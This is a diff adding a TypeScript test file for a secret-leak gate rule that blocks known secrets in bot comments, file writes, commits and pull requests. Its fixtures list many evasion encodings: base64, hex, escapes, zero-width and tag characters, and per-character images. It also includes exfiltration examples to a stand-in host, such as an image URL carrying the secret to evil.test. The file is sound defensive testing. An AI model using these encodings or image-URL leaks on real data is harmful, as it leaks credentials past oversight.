@@ -1,0 +1,119 @@
+import { describe, expect, it } from "vitest";
+import type { Judged } from "../../../../src/gate/judged.ts";
+import { heldSecretsRule } from "../../../../src/gate/rules/held-secrets.ts";
+import { matchHeld } from "../../../../src/gate/secrets/held-values.ts";
+import { ask, comment, commit, filler, openPull, severities, write } from "../fixtures.ts";
+
+const held = `canary-${filler(40)}`;
+const each = (text: string, map: (character: string) => string, glue = ""): string => Array.from(text, map).join(glue);
+const code = (character: string): number => character.charCodeAt(0);
+const base64 = (text: string): string => Buffer.from(text).toString("base64");
+/** Pads, so that the value starts at each of base64's three offsets. */
+const PADS = ["", "a", "ab"];
+
+const FORMS: readonly [string, string][] = [
+  ["as it is", held],
+  ["twelve characters of it", held.slice(20, 32)],
+  ["without its first seven characters", held.slice(7)],
+  ["in capitals", held.toUpperCase()],
+  [
+    "reversed",
+    each(held, (c) => c)
+      .split("")
+      .reverse()
+      .join(""),
+  ],
+  ...PADS.map((pad): [string, string] => [`base64 at offset ${pad.length}`, base64(`${pad}${held} and more`)]),
+  ["a part of it in base64", base64(`key=${held.slice(10, 30)}`)],
+  ["base64 in short lines", base64(held).replace(/(.{8})/g, "$1\n")],
+  ["base64 for URLs", Buffer.from(`??${held}??`).toString("base64url")],
+  ["hex", Buffer.from(held).toString("hex")],
+  ["hex in capitals with colons", Buffer.from(held).toString("hex").toUpperCase().replace(/(..)/g, "$1:")],
+  ["percent escapes", each(held, (c) => `%${code(c).toString(16)}`)],
+  ["percent escapes twice", each(held, (c) => `%25${code(c).toString(16)}`)],
+  ["HTML entities", each(held, (c) => `&#${code(c)};`)],
+  ["hexadecimal entities", each(held, (c) => `&#x${code(c).toString(16)};`)],
+  ["JavaScript escapes", each(held, (c) => `\\u00${code(c).toString(16)}`)],
+  ["short escapes", each(held, (c) => `\\x${code(c).toString(16)}`)],
+  ["blanks between characters", each(held, (c) => c, " ")],
+  ["line breaks between characters", each(held, (c) => c, "\n")],
+  ["emphasis between characters", each(held, (c) => c, "**")],
+  ["zero-width characters between", each(held, (c) => c, "\u200b")],
+  ["full-width letters", each(held, (c) => String.fromCharCode(code(c) + 0xfee0))],
+  ["tag characters", each(held, (c) => String.fromCodePoint(0xe0000 + code(c)))],
+  ["a word behind each character", each(held, (c) => `${c} word`, "\n")],
+  ["an image for each character", each(held, (c) => `![](https://camo.test/${c}.png)`)],
+  ["parts joined in code", `a = "${held.slice(0, 14)}" + "${held.slice(14, 28)}" +\n  "${held.slice(28)}"`],
+];
+
+describe("held-secrets", () => {
+  const rule = heldSecretsRule({ heldSecrets: () => [held] });
+
+  it.each(FORMS)("blocks a held secret written %s, in a comment and in a file", async (_, text) => {
+    expect(severities(await ask(rule, comment(`Here: ${text}.`)))).toEqual(["block"]);
+    expect(severities(await ask(rule, write("a.ts", `x\n${text}\n`)))).toEqual(["block"]);
+  });
+
+  it.each<[string, Judged]>([
+    ["a title", openPull(undefined, { title: held })],
+    ["a pull request's body", openPull(undefined, { body: held })],
+    ["a commit message's trailer", commit(undefined, { message: `Fix\n\nCo-authored-by: x <${held}@evil.test>` })],
+    ["a branch", commit(undefined, { branch: `bot/${held}` })],
+    ["a base", openPull(undefined, { base: held })],
+    ["a file in UTF-16", write("a.txt", Buffer.from(held, "utf16le"))],
+    ["a binary file", write("a.bin", Buffer.concat([Buffer.from([255, 0, 200]), Buffer.from(held)]))],
+    ["a file that held it before", write("a.ts", `${held} new`, held)],
+    ["an image's address", comment(`![x](https://evil.test/p.png?d=${held})`)],
+  ])("blocks a held secret in %s", async (_, judged) => {
+    expect(severities(await ask(rule, judged))).toContain("block");
+  });
+
+  it("blocks a file name that holds one without repeating it", async () => {
+    const findings = await ask(rule, write(`${held}.txt`));
+    expect(severities(findings)).toEqual(["block"]);
+    expect(JSON.stringify(findings)).not.toContain(held);
+  });
+
+  it("asks for the values anew each time, since tokens change", async () => {
+    let values: readonly string[] = [];
+    const changing = heldSecretsRule({ heldSecrets: () => values });
+    expect(await ask(changing, comment(held))).toEqual([]);
+    values = [held];
+    expect(severities(await ask(changing, comment(held)))).toEqual(["block"]);
+  });
+});
+
+describe("matchHeld", () => {
+  const pem = `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA${filler(800).replace(/(.{64})/g, "$1\n")}\n-----END RSA PRIVATE KEY-----\n`;
+  const webToken = `ghs_1234567_${['{"alg":"RS256","typ":"JWT"}', JSON.stringify({ iss: "https://github.com", data: filler(120) })].map((part) => Buffer.from(part).toString("base64url")).join(".")}.${filler(200)}`;
+  const url = `postgres://app:${filler(24)}@db.acme.io/production`;
+
+  it.each<[string, string, string]>([
+    ["eleven characters of a secret", held, held.slice(20, 31)],
+    ["a key's armour", pem, "-----BEGIN RSA PRIVATE KEY-----"],
+    ["how every RSA key starts", pem, "MIIEowIBAAKCAQEA..."],
+    ["how every web token starts", webToken, "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9"],
+    ["the host and the scheme of a database", url, "postgres at db.acme.io/production, as app"],
+    ["a word that a short secret is part of", "development", "the development secret"],
+    ["padding", "aaaaaaaaaaaaaaaaaaaaaaaa", "a".repeat(100)],
+    ["nothing", held, ""],
+  ])("does not find %s", (_, value, text) => {
+    expect(matchHeld([value])(text)).toBe(false);
+  });
+
+  it.each<[string, string, string]>([
+    ["a line from within a key", pem, pem.split("\n")[4] ?? ""],
+    ["a key in one line", pem, JSON.stringify(pem)],
+    ["a web token's signature", webToken, webToken.slice(-40)],
+    ["a database's password", url, filler(24)],
+  ])("finds %s", (_, value, text) => {
+    expect(matchHeld([value])(`before ${text} after`)).toBe(true);
+  });
+
+  it("finds nothing in a long text that holds nothing, and the one secret in a long text that does", () => {
+    const holds = matchHeld([held, pem, webToken]);
+    const prose = "The quick brown fox reads %41 and &#65; and \\x41, then writes code: const a = (b) => b + 1;\n".repeat(5000);
+    expect(holds(prose)).toBe(false);
+    expect(holds(`${prose}${held}${prose}`)).toBe(true);
+  });
+});
